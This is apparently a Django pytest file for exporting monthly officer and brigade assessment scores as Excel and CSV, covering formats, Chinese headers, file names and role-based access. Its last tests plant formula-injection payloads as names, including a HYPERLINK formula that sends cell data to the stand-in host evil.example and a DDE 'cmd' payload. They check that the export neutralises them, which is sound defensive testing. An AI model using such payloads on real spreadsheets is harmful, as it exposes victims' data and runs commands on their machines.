"""The month's tables as .xlsx and CSV: sheets, Chinese headers, number formats, the BOM, the
file names, who may download which rows, and names that look like spreadsheet formulas kept as
text, never evaluated."""

import csv
import datetime
import io
import zoneinfo
from urllib.parse import quote

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import Score
from tests.assessments import scored

pytestmark = pytest.mark.django_db

october = scored.october
september_draft = scored.september_draft
fast_password_hashing = scored.fast_password_hashing
NOW = datetime.datetime(2026, 11, 22, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai"))
XLSX_URL = reverse("assessments:export_xlsx", kwargs={"month": "2026-10"})
CSV_URL = reverse("assessments:export_csv", kwargs={"month": "2026-10"})
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _november(time_machine):
    time_machine.move_to(NOW, tick=False)


def workbook_of(response):
    return load_workbook(io.BytesIO(response.content))


def test_assessor_downloads_a_sheet_per_subject_kind_in_chinese(client, assessor, october):
    client.force_login(assessor)
    response = client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f"filename*=UTF-8''{quote('考核-2026-10.xlsx')}" in response["Content-Disposition"]
    book = workbook_of(response)
    assert len(book.sheetnames) == 6
    officers = book.worksheets[0]
    assert officers.freeze_panes == "A2"
    assert officers.max_row == 3  # the header and two officers


def test_officer_sheet_cells_and_number_formats(client, assessor, october):
    client.force_login(assessor)
    sheet = workbook_of(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="en")).worksheets[0]
    assert sheet.title == "Officers"
    headers = [cell.value for cell in sheet[1]]
    assert headers[:7] == [
        "Rank",
        "Name",
        "Badge number",
        "Brigade",
        "Composite",
        "Grade",
        "Change",
    ]
    on_time = headers.index("On-time disposal rate") + 1
    first = {h: sheet.cell(row=2, column=i + 1) for i, h in enumerate(headers)}
    assert first["Name"].value == "王建国" and first["Rank"].value == 1
    assert first["Composite"].value == 91.5 and first["Composite"].number_format == "0.00"
    rate = sheet.cell(row=2, column=on_time)
    assert rate.value == pytest.approx(0.9) and rate.number_format == "0.0%"
    assert sheet.cell(row=2, column=on_time + 1).value == 9  # numerator
    assert sheet.cell(row=2, column=on_time + 2).value == 10  # denominator
    logs = headers.index("Daily log completeness") + 1
    assert sheet.cell(row=3, column=logs).value is None  # 李秀英: no duty days, n/a
    assert sheet.column_dimensions["B"].width == 24


def test_supervisor_exports_only_their_brigade(client, supervisor_gulou, october):
    client.force_login(supervisor_gulou)
    book = workbook_of(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="en"))
    assert book.sheetnames == ["Officers", "Brigades"]
    names = [row[1] for row in book["Officers"].iter_rows(min_row=2, values_only=True)]
    assert names == ["王建国"]


def test_officer_cannot_export(client, officer_gulou, october):
    client.force_login(officer_gulou)
    assert client.get(XLSX_URL).status_code == 403
    assert client.get(CSV_URL).status_code == 403


def test_command_centre_cannot_export_an_unpublished_month(
    client, command_supervisor, september_draft
):
    client.force_login(command_supervisor)
    url = reverse("assessments:export_xlsx", kwargs={"month": "2026-09"})
    assert client.get(url).status_code == 404


def test_command_centre_exports_a_published_month(client, command_supervisor, october):
    client.force_login(command_supervisor)
    assert client.get(XLSX_URL).status_code == 200


def test_csv_starts_with_the_bom_and_parses(client, assessor, october):
    client.force_login(assessor)
    response = client.get(CSV_URL + "?kind=officer", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.content.startswith("\ufeff".encode())
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert rows[1][1] == "王建国" and rows[1][2] == "GL1-001"
    assert len(rows[0]) == len(rows[1])


def test_csv_of_brigades(client, assessor, october):
    client.force_login(assessor)
    rows = list(
        csv.reader(io.StringIO(client.get(CSV_URL + "?kind=brigade").content.decode("utf-8-sig")))
    )
    assert [row[1] for row in rows[1:]] == ["鼓楼执法监督一大队", "泉山执法监督三大队"]


@pytest.mark.parametrize("kind", ["", "wizard", "%00"])
def test_csv_of_an_unknown_kind_is_a_404(client, supervisor_gulou, october, kind):
    client.force_login(supervisor_gulou)
    assert client.get(CSV_URL + f"?kind={kind}").status_code == 404


def test_supervisor_cannot_export_the_districts(client, supervisor_gulou, october):
    client.force_login(supervisor_gulou)
    assert client.get(CSV_URL + "?kind=district").status_code == 403


def test_assessor_exports_the_districts(client, assessor, october):
    client.force_login(assessor)
    assert client.get(CSV_URL + "?kind=district").status_code == 200


def test_export_runs_a_constant_number_of_queries(
    client, assessor, october, django_assert_max_num_queries
):
    client.force_login(assessor)
    with django_assert_max_num_queries(20) as small:
        client.get(XLSX_URL)
    scored.more_officers(october.run, october.officer_gulou.brigade, 30)
    with django_assert_max_num_queries(len(small.captured_queries)):
        client.get(XLSX_URL)


def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx(client, assessor, october):
    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=EVIL)
    client.force_login(assessor)
    sheet = load_workbook(io.BytesIO(client.get(XLSX_URL).content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == EVIL]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


@pytest.mark.parametrize("name", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_a_name_that_looks_like_a_formula_is_quoted_in_the_csv(client, assessor, october, name):
    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=name)
    client.force_login(assessor)
    text = client.get(CSV_URL + "?kind=officer").content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + name in names
    assert name not in names


def test_the_workbook_speaks_chinese_by_default(client, assessor, october):
    client.force_login(assessor)
    book = load_workbook(io.BytesIO(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="zh-hans").content))
    assert book.sheetnames == ["队员", "大队", "责任单位", "社区", "街道", "区"]
    headers = [cell.value for cell in book.worksheets[0][1]]
    assert headers[:7] == ["排名", "名称", "执法证号", "大队", "综合得分", "等次", "环比"]
